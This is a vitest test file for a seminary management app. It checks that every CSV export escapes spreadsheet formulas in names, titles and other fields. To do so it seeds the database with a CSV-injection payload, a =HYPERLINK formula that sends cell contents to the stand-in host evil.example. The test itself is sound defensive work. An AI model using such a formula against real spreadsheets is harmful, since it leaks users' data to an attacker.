import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { contract } from '#contract/index.ts'
import { isOperation } from '#server/http/app.ts'
import { makeProgram } from '#tests/support/programs.ts'
import { seminary } from '#tests/support/seminary.ts'

/** What is downloaded and is no table. */
const NO_TABLES = [
  'downloadBackup',
  'downloadCourseCertificates',
  'downloadOwnPaper',
  'downloadPaper',
  'downloadFile',
  'downloadNumberedReceipt',
  'downloadSubmission',
  'downloadSubmissions',
  'exportOwnData',
  'importHistory',
  'importPeople',
  'previewPaper',
  'printActa',
  'printActaCopy',
  'printCourseCertificates',
]

test('no line of any exported table begins with a formula, whatever names hold', async () => {
  const { as, cast, database } = await seminary()
  const formula = `'Ana' || chr(10) || '=HYPERLINK("http://evil.example?" & A1)'`
  await database.pool.query(`update users set name = ${formula}, first_name = ${formula}, last_name = ${formula}`)
  await database.pool.query(`update courses set name = ${formula}`)
  await database.pool.query(`update periods set name = ${formula} || id`)
  const courseId = cast.courses.hermeneutics
  const programId = await makeProgram(database.pool)
  await database.pool.query(`update programs set name = ${formula}`)
  await as.carla.admitStudent({ programId, user_id: cast.people.ana.id })
  await as.carla.recordEarlierTitle({
    user_id: cast.people.diego.id,
    program_id: programId,
    title_granted: '=1+1',
    register_number: '1',
    book: '1',
    folio: '1',
    granted_on: '2020-01-01',
  })
  const acta = { courseId, periodId: cast.periods.current }
  const tables: [string, Promise<unknown>][] = [
    ['exportCourseStudents', as.bruno.exportCourseStudents({ courseId })],
    ['exportFinalGrades', as.bruno.exportFinalGrades(acta)],
    ['exportGradeBook', as.bruno.exportGradeBook({ courseId })],
    ['exportSecretariatGrades', as.carla.exportSecretariatGrades({})],
    ['exportPeople', as.carla.exportPeople({ role: 'student' })],
    ['exportPeople', as.carla.exportPeople({ role: 'teacher' })],
    ['exportCourses', as.carla.exportCourses({})],
    ['exportStudentsInCourse', as.carla.exportStudentsInCourse({ courseId })],
    ['exportPeriods', as.carla.exportPeriods({})],
    ['exportPayments', as.carla.exportPayments({})],
    ['exportUsers', as.carla.exportUsers({})],
    ['exportAccounts', as.carla.exportAccounts({})],
    ['exportProgramStudents', as.carla.exportProgramStudents({ programId })],
    ['exportTitles', as.carla.exportTitles({})],
    ['exportOverviewGroups', as.carla.exportOverviewGroups({ by: 'course', all: true })],
    ['exportOverviewRows', as.carla.exportOverviewRows({ figure: 'enrolled', all: true })],
    ['exportAudit', as.carla.exportAudit({})],
    ['getImportTemplate', as.carla.getImportTemplate({})],
    ['getHistoryTemplate', as.carla.getHistoryTemplate({})],
  ]
  const tried = new Set([...tables.map(([name]) => name), ...NO_TABLES])
  expect(namesOfDownloads().filter((name) => !tried.has(name))).toEqual([])
  const hostile: string[] = []
  for (const [name, asked] of tables) {
    const file = String(await asked)
    const lines = file.split(/[\r\n]/)
    const formulas = lines.filter((line) => /^"*\s*[=+\-@\t]/.test(line))
    expect({ name, formulas }).toEqual({ name, formulas: [] })
    // Every row has the columns of the titles: no cell was cut in two.
    const rows: string[][] = parse(file, { bom: true, delimiter: ';', recordDelimiter: '\r\n' })
    if (rows.flat().some((cell) => cell.includes('HYPERLINK'))) hostile.push(name)
    // A day that isn't written as LibreOffice reads it in es-AR, or a field in the words of the code.
    const foreign = rows.flat().filter((cell) => /^\d{4}-\d{2}-\d{2}|^[\d/]+, \d|^[[{]|^[a-z]+_[a-z_]+$/.test(cell))
    // What an import reads again names its own forms.
    expect({ name, foreign: name.endsWith('Template') ? [] : foreign }).toEqual({ name, foreign: [] })
  }
  expect(hostile).toEqual([
    'exportCourseStudents',
    'exportFinalGrades',
    'exportGradeBook',
    'exportSecretariatGrades',
    'exportPeople',
    'exportPeople',
    'exportCourses',
    'exportStudentsInCourse',
    'exportPeriods',
    'exportPayments',
    'exportUsers',
    'exportAccounts',
    'exportProgramStudents',
    'exportTitles',
    'exportOverviewGroups',
    'exportOverviewRows',
    'exportAudit',
  ])
})

function namesOfDownloads(): string[] {
  const operations = Object.values(contract).flatMap((room) => Object.entries<object>(room))
  return operations.flatMap(([name, operation]) => (isOperation(operation) && operation.download ? [name] : []))
}
